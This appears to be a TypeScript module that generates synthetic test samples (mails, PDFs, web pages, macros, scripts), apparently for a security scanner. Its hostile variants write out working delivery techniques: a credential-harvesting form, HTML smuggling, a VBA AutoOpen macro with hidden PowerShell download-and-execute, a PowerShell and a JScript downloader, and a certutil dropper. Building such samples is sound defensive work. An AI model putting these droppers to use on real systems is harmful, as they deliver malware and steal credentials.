import type { Theme } from "../theme.ts";
import type { Rng } from "../rng.ts";
import { base64, base64Lines, join } from "./bytes.ts";
import type { Member } from "./archive.ts";

const SENTENCES = [
  "Please find the figures of last month below.",
  "The maintenance window was moved to Thursday evening.",
  "All travel must be approved by the team lead.",
  "Merci de confirmer la réception de ce document.",
  "The customer asked for a copy of the delivery note.",
  "Bitte beachten Sie die geänderten Öffnungszeiten.",
  "The new badge readers will be active from Monday.",
] as const;

/** Some ordinary sentences. */
export function prose(random: Rng, count: number): string {
  return Array.from({ length: count }, () => random.pick(SENTENCES)).join(" ");
}

/** A mail with attachments in base64. */
export function makeMail(
  theme: Theme,
  random: Rng,
  { attachments }: { readonly attachments: readonly Member[] },
): Uint8Array {
  const boundary = `=_${random.hex(16)}`;
  const links = theme.level === "info" ? [theme.urls[0]] : [theme.urls[0], theme.urls[3]];
  const link = `\r\n${links.filter((url) => url !== undefined).join("\r\n")}\r\n`;
  const parts = attachments.map((file) =>
    `--${boundary}\r\nContent-Type: application/octet-stream; name="${file.name}"\r\n` +
    `Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="${file.name}"\r\n\r\n` +
    `${base64Lines(file.bytes)}\r\n`
  );
  const returnPath = theme.level === "info" ? theme.sender : `bounce@${theme.domains[1] ?? "mail.example"}`;
  return join(
    `Return-Path: <${returnPath}>\r\n` +
      `Received: from ${theme.domains[0]} (${
        theme.ips[0] ?? "192.0.2.25"
      }) by mx1.corp.example with ESMTPS\r\n` +
      `From: "${theme.company}" <${theme.sender}>\r\nTo: ${theme.recipient}\r\nSubject: ${theme.subject}\r\n` +
      `Message-ID: <${random.hex(12)}@${theme.domains[0]}>\r\nMIME-Version: 1.0\r\n` +
      `Content-Type: multipart/mixed; boundary="${boundary}"\r\n\r\n--${boundary}\r\n` +
      `Content-Type: text/plain; charset=utf-8\r\n\r\n${prose(random, 3)}${link}\r\n`,
    ...parts,
    `--${boundary}--\r\n`,
  );
}

/** A PDF document of one page, with a link or a script when the theme is hostile. */
export function makePdf(theme: Theme, random: Rng): Uint8Array {
  const hostile = theme.level !== "info" && theme.level !== "safe";
  const url = hostile ? theme.urls[random.int(0, 1)] ?? "" : "";
  const action = hostile ? `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${url}", true\\);) >> ` : "";
  const annotation = url === "" ? "" : `/Annots [ << /Subtype /Link /A << /S /URI /URI (${url}) >> >> ] `;
  const page = `BT /F1 12 Tf 72 720 Td (${prose(random, 2).replace(/[()\\]/g, " ")}) Tj ET`;
  return join(
    `%PDF-1.${
      random.int(3, 7)
    }\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog /Pages 2 0 R ${action}>> endobj\n` +
      `2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n` +
      `3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R ${annotation}>> endobj\n` +
      `4 0 obj << /Length ${page.length} >> stream\n${page}\nendstream endobj\n` +
      `5 0 obj << /Title (${theme.company} ${theme.number}) /Producer (pdf demo ${
        random.hex(6)
      }) >> endobj\n` +
      `trailer << /Root 1 0 R /Info 5 0 R >>\n%%EOF\n`,
  );
}

/** A web page; `form` asks for a password, `payload` is smuggled. */
export function makeHtml(
  theme: Theme,
  random: Rng,
  more: { form: boolean; payload?: Uint8Array },
): Uint8Array {
  const form = more.form
    ? `<form action="${
      theme.urls[1] ?? theme.urls[0]
    }" method="post"><input name="login" value="${theme.recipient}">` +
      `<input type="password" name="pass"><button>Sign in</button></form>`
    : `<p>${prose(random, 4)}</p>`;
  const script = more.payload === undefined ? "" : `<script>var d=atob("${base64(more.payload)}");` +
    `var b=new Blob([d]);var a=document.createElement("a");a.href=URL.createObjectURL(b);a.download="doc.zip";a.click();</script>`;
  return join(
    `<!DOCTYPE html>\n<html><head><title>${theme.company}</title><meta charset="utf-8"></head>\n` +
      `<body data-id="${random.hex(8)}"><h1>${theme.subject}</h1>${form}${script}</body></html>\n`,
  );
}

/** A macro in Visual Basic. */
export function macroText(theme: Theme, random: Rng): string {
  const name = `m${random.hex(5)}`;
  const address = theme.urls[3] ?? theme.urls[0];
  if (theme.level === "info") {
    return `Attribute VB_Name = "Totals"\r\nSub ${name}()\r\n  Range("B2").Value = Range("A1").Value * 1.2\r\nEnd Sub\r\n`;
  }
  const command =
    `powershell -w hidden -nop -c ""IEX(New-Object Net.WebClient).DownloadString('${address}')""`;
  return `Attribute VB_Name = "${name}"\r\nSub AutoOpen()\r\n  Dim ${name} As Object\r\n` +
    `  Set ${name} = CreateObject("WScript.Shell")\r\n  ${name}.Run "${command}", 0\r\nEnd Sub\r\n`;
}

/** A PowerShell script; a downloader when the theme is hostile. */
export function makePs1(theme: Theme, random: Rng): Uint8Array {
  if (theme.level === "info") {
    return join(
      `# Cleans old logs ${
        random.hex(4)
      }\nGet-ChildItem D:\\logs -Filter *.log | Where-Object { $_.LastWriteTime -lt ` +
        `(Get-Date).AddDays(-${random.int(7, 90)}) } | Remove-Item -Confirm:$false\n`,
    );
  }
  const inner = `Start-Process $env:TEMP\\${random.hex(4)}.exe`;
  return join(
    `$u = '${theme.urls[0]}'\n$p = "$env:TEMP\\${random.hex(6)}.exe"\n` +
      `(New-Object Net.WebClient).DownloadFile($u, $p)\n` +
      `powershell -nop -w hidden -enc ${
        btoa([...inner].map((c) => `${c}\0`).join(""))
      }\nInvoke-Expression $p\n`,
  );
}

/** A script in JavaScript; a downloader when the theme is hostile. */
export function makeJs(theme: Theme, random: Rng): Uint8Array {
  if (theme.level === "info") {
    return join(
      `(function(){"use strict";var v="${random.hex(6)}";function add(a,b){return a+b}` +
        `document.querySelectorAll(".total").forEach(function(e){e.textContent=add(+e.dataset.net,+e.dataset.tax)});})();\n`,
    );
  }
  const noiseName = `_0x${random.hex(4)}`;
  return join(
    `var ${noiseName}=["${theme.urls[0]}","WScript.Shell","MSXML2.XMLHTTP","ADODB.Stream","${
      theme.urls[3]
    }"];\n` +
      `var x=new ActiveXObject(${noiseName}[2]);x.open("GET",${noiseName}[0],false);x.send();\n` +
      `var s=new ActiveXObject(${noiseName}[3]);s.Type=1;s.Open();s.Write(x.responseBody);` +
      `s.SaveToFile("%TEMP%\\\\${random.hex(6)}.exe",2);\nnew ActiveXObject(${noiseName}[1]).Run("${
        random.hex(6)
      }.exe");\n`,
  );
}

/** A batch file; a downloader when the theme is hostile. */
export function makeBatch(theme: Theme, random: Rng): Uint8Array {
  const body = theme.level === "info"
    ? `net use P: \\\\files.corp.example\\public /persistent:yes\r\necho ready ${random.hex(4)}\r\n`
    : `set a=cer&set b=tutil\r\n%a%%b% -urlcache -split -f ${theme.urls[0]} %TEMP%\\${
      random.hex(5)
    }.exe\r\n` +
      `start /min %TEMP%\\${random.hex(5)}.exe\r\n`;
  return join(`@echo off\r\n${body}exit /b 0\r\n`);
}
